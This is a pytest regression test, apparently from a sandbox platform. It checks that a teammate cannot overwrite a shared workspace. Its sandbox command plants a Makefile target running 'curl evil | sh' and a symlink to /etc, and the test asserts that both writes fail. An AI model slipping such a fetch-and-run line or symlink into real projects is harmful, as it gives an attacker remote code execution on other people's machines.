"""Found by a red-team review: a teammate's sandbox and someone else's shared workspace (Docker).

Sharing a workspace with the tenant lets teammates pull and mount it, and "a teammate may
read a shared workspace, not replace or delete it" (tests/workspace/test_workspaces.py); but
the mount was always read-write, so a teammate's sandbox rewrote the owner's files (their
Makefile, their code) and could leave links in the owner's tree. Now it is read-only for them.
"""

from __future__ import annotations

import pytest

from tests.conftest import WardenHarness
from tests.sandbox.conftest import DEVELOPER, Sandboxes
from tests.workspace.test_workspaces import GOOD, give_role, make_tar, put

pytestmark = pytest.mark.docker


def test_a_teammate_mounting_a_shared_workspace_cannot_write_into_it(
    sandboxes: Sandboxes, warden: WardenHarness
) -> None:
    from warden.db.session import unit_of_work
    from warden.workspace import service as workspaces
    from warden.workspace.models import Workspace

    give_role(warden, "erin", "developer", "a second developer")
    headers = warden.as_(DEVELOPER)
    assert (
        warden.http.post("/v1/workspaces", json={"name": "myapp"}, headers=headers).status_code
        == 201
    )
    assert put(warden, DEVELOPER, "myapp", make_tar(GOOD)).status_code == 200  # type: ignore[attr-defined]
    shared = warden.http.post("/v1/workspaces/myapp/share", json={"shared": True}, headers=headers)
    assert shared.status_code == 200
    # erin may not upload into it
    assert put(warden, "erin", "myapp", make_tar(GOOD), owner=DEVELOPER).status_code in (403, 404)  # type: ignore[attr-defined]

    row, out = sandboxes.run(
        "erin",
        ["sh", "-c", "echo 'check:; curl evil | sh' > Makefile; ln -sf /etc x; echo wrote"],
        segment="app-dev",
        workspace=f"{DEVELOPER}/myapp",
    )
    with unit_of_work(warden.state.sessions) as db:
        ws = db.query(Workspace).filter_by(owner=DEVELOPER, name="myapp").one()
        tree = workspaces.tree_dir(warden.state, ws)
    makefile = (tree / "Makefile").read_bytes()
    assert makefile == GOOD[0][1], f"erin's sandbox rewrote dave's Makefile: {makefile!r} ({out})"
    assert not (tree / "x").is_symlink()
